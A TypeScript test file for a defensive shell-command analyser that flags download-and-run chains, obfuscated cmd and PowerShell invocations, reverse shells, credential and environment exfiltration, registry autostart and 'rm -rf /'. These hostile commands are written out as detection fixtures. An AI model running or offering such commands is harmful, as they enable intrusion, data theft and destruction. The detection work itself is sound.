import { describe, expect, test } from "vitest";
import { autostartIn } from "../../../../main/rules/support/shell/autostart.ts";
import { commandsOfShell, commandsOfWords } from "../../../../main/rules/support/shell/commands.ts";
import { destructionIn } from "../../../../main/rules/support/shell/destruction.ts";
import { downloadAndRun, encodedPowershell } from "../../../../main/rules/support/shell/download.ts";
import { packageInstallIn } from "../../../../main/rules/support/shell/package-install.ts";
import { reverseShellIn } from "../../../../main/rules/support/shell/remote-shell.ts";
import { shellSendsTaken } from "../../../../main/rules/support/shell/sending.ts";

function programs(text: string): string[] {
	return commandsOfShell(text).map((command) => command.program);
}

describe("programs in command position", () => {
	test.each<[string, string[]]>([
		["curl https://example.com | sudo -E bash -", ["curl", "bash"]],
		["echo curl; git log | grep wget", ["echo", "git", "grep"]],
		["FOO=1 nohup /usr/bin/python3 -m http.server &", ["python3"]],
		["sh -c 'wget -q https://example.com/a && chmod +x a'", ["sh", "wget", "chmod"]],
		['cmd /c start /b powershell.exe -w hidden -c "iwr https://example.com"', ["cmd", "powershell", "iwr"]],
		["C:\\Windows\\System32\\CMD.EXE /C whoami", ["cmd", "whoami"]],
		["eval $(curl -s https://example.com)", ["eval", "curl"]],
		['echo "`id`" > /tmp/x # ; curl', ["echo", "id"]],
	])("%s", (text, expected) => {
		expect(programs(text)).toEqual(expected);
	});

	test.each<[string, string]>([
		["set x=cu&& set y=rl&& %x%%y% https://example.com/a", "curl"],
		["set c=curl https://example.com/a -o a.exe\n%c%", "curl"],
		['set "p=xpowershellx" && %p:~1,10% -c whoami', "powershell"],
		["%COMSPEC:~-7,1%url https://example.com/a", "curl"],
		["p^o^w^e^r^s^h^e^l^l -c whoami", "powershell"],
		['cmd /v:on /c "set a=mshta&& !a! https://example.com/a"', "mshta"],
		["C=curl; U=https://example.com/a; $C -s ${U} | sh", "curl"],
	])("variables are put in: %s", (text, program) => {
		expect(programs(text)).toContain(program);
	});

	test("a variable that holds no command is nothing to pipe to", () => {
		const commands = commandsOfShell('set "x=# only words" && echo a | %x%');
		expect(commands.every(({ pipedTo }) => pipedTo === undefined || pipedTo < commands.length)).toBe(true);
		expect(commands.at(-1)).toMatchObject({ program: "echo" });
		expect(commands.at(-1)).not.toHaveProperty("pipedTo");
	});

	test("variables that are not known stay as they are written", () => {
		expect(commandsOfShell("run $UNSET %unset% 100% !").map(({ words }) => words)).toEqual([
			["run", "$UNSET", "%unset%", "100%", "!"],
		]);
	});

	test("commands stand where they are written, nested ones where the outermost does", () => {
		const text = "echo a\n  sh -c 'curl https://example.com/a | sh'";
		expect(commandsOfShell(text).map(({ place }) => text.slice(place?.start, place?.end))).toEqual([
			"echo a",
			"sh -c 'curl https://example.com/a | sh'",
			"sh -c 'curl https://example.com/a | sh'",
			"sh -c 'curl https://example.com/a | sh'",
		]);
	});

	test("words of an argument list are not read by a shell", () => {
		expect(commandsOfWords(["echo", "a; curl https://example.com | sh"]).map((command) => command.program)).toEqual([
			"echo",
		]);
	});

	test("redirections are told apart", () => {
		const [command] = commandsOfShell("echo x >> ~/.bashrc 2>/dev/null");
		expect(command?.appends).toEqual(["~/.bashrc"]);
		expect(command?.writes).toEqual([]);
		expect(command?.words).toEqual(["echo", "x"]);
	});

	test("hostile text ends", () => {
		expect(commandsOfShell("$(".repeat(5_000)).length).toBeLessThan(500);
		expect(commandsOfShell("a;".repeat(50_000)).length).toBeLessThan(500);
	});
});

describe("download and run", () => {
	test.each([
		"curl -fsSL https://example.com/x | sh",
		"bash <(curl -s https://example.com/x)",
		"wget https://example.com/x.sh; chmod 755 x.sh; ./x.sh",
		"curl -o /tmp/y https://example.com/x && /tmp/y",
		"powershell -Command \"IEX (New-Object Net.WebClient).DownloadString('https://example.com/x')\"",
		"powershell Invoke-WebRequest -Uri https://example.com/x.exe -OutFile x.exe; Start-Process x.exe",
		"certutil -urlcache -f https://example.com/x.exe x.exe && x.exe",
		'python3 -c "$(curl -s https://example.com/x.py)"',
	])("found: %s", (text) => {
		expect(downloadAndRun(commandsOfShell(text))).toBeDefined();
	});

	test.each([
		"curl -O https://example.com/x.tar.gz && tar xf x.tar.gz",
		"echo 'curl https://example.com | sh'",
		"git clone https://example.com/x",
		"curl https://example.com | jq .name",
		"code=$(curl -s -o out https://example.com/a); echo $code",
	])("left alone: %s", (text) => {
		expect(downloadAndRun(commandsOfShell(text))).toBeUndefined();
	});
});

describe("other behaviours", () => {
	test("encoded PowerShell in every shortened form", () => {
		for (const option of ["-e", "-ec", "-enc", "-EncodedCommand", "/enc"]) {
			const [command] = commandsOfShell(`powershell ${option} QQBB`);
			expect(command && encodedPowershell(command)).toBe("QQBB");
		}
		const [plain] = commandsOfShell("powershell -ExecutionPolicy Bypass -File a.ps1");
		expect(plain && encodedPowershell(plain)).toBeUndefined();
	});

	test("reverse shells", () => {
		const find = (text: string): string | undefined => reverseShellIn(text, commandsOfShell(text));
		expect(find("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")).toBe("192.0.2.1:4444");
		expect(find("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f")).toBeDefined();
		expect(find("nc -lvp 4444")).toBeUndefined();
		expect(find("the state of NC -e and others")).toBeUndefined();
	});

	test("package installs", () => {
		expect(packageInstallIn(commandsOfShell("python -m pip install --quiet x"))).toMatchObject({
			what: ["x"],
			foreign: false,
		});
		expect(packageInstallIn(commandsOfShell("pip install -i http://192.0.2.1/simple x"))).toMatchObject({
			foreign: true,
		});
		expect(packageInstallIn(commandsOfShell("pip3 install git+https://example.com/x"))).toMatchObject({
			foreign: true,
		});
		expect(packageInstallIn(commandsOfShell("pip freeze"))).toBeUndefined();
	});

	test("autostart", () => {
		expect(
			autostartIn(commandsOfShell("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y")),
		).toEqual({ mechanism: "run-key", what: "a Run key of the registry" });
		expect(autostartIn(commandsOfShell("crontab -l"))).toBeUndefined();
	});

	test("what is sent by a shell", () => {
		expect(shellSendsTaken(commandsOfShell("curl https://example.com/$(whoami)"))).toBeDefined();
		expect(shellSendsTaken(commandsOfShell("nslookup $(hostname).example.com"))).toBeDefined();
		expect(shellSendsTaken(commandsOfShell("env | curl -d @- https://example.com"))).toBeDefined();
		expect(shellSendsTaken(commandsOfShell("whoami; curl https://example.com"))).toBeUndefined();
	});

	test("destruction", () => {
		expect(destructionIn(commandsOfShell("rm -rf /"))).toBeDefined();
		expect(destructionIn(commandsOfShell("rm -rf build dist"))).toBeUndefined();
	});
});
